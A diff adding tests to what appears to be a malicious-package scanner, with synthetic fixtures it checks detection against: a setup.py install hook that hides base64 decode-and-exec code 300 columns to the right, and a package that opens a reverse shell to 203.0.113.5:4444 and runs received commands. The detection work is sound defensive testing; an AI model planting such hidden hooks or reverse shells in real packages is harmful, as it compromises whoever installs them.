@@ -675,6 +675,42 @@ setup(name='synthetic-pkg', version='1.0.0')
     expect(scoring(r, 'exfiltrates-environment')).toMatchObject({ file: 'setup.py', line: 5, weight: 100 })
   })
 
+  it('sees exec and compile reached through builtins, and code hidden far to the right of a statement', async () => {
+    const r = await sdist({
+      'setup.py': `from setuptools import setup
+from setuptools.command.install import install
+class Install(install):
+    def run(self):
+        print("installing")${' '.repeat(300)},__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode("${Buffer.from('print(1)').toString('base64')}"), '<s>', 'exec'))
+        install.run(self)
+setup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Install})
+`,
+    })
+    expect(scoring(r, 'decodes-and-executes')).toMatchObject({ file: 'setup.py', line: 5 })
+    expect(scoring(r, 'obfuscated-code')?.message).toMatch(/code hidden 3\d\d columns to the right/)
+  })
+
+  it('does not call aligned spaces inside a string literal hidden code', async () => {
+    const r = await npm({ 'index.js': `module.exports = { pad: "x${' '.repeat(200)}y", table: '${' '.repeat(180)}' }\n` })
+    expect(r.signals.filter((s) => s.rule === 'obfuscated-code')).toEqual([])
+  })
+
+  it('follows commands read from a raw socket into a shell', async () => {
+    const r = await sdist({
+      'synthetic_pkg/__init__.py': `import socket, subprocess
+def connect():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("203.0.113.5", 4444))
+    while True:
+        command = s.recv(1024).decode()
+        out = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE)
+        s.send(out.stdout.read())
+connect()
+`,
+    })
+    expect(scoring(r, 'downloads-and-executes')).toMatchObject({ file: 'synthetic_pkg/__init__.py', line: 7 })
+  })
+
   it('resolves `node .` to the main entry and runs it at install', async () => {
     const files = { 'lib/main.js': DECODE_EVAL }
     const manifest = { main: 'lib/main.js' }
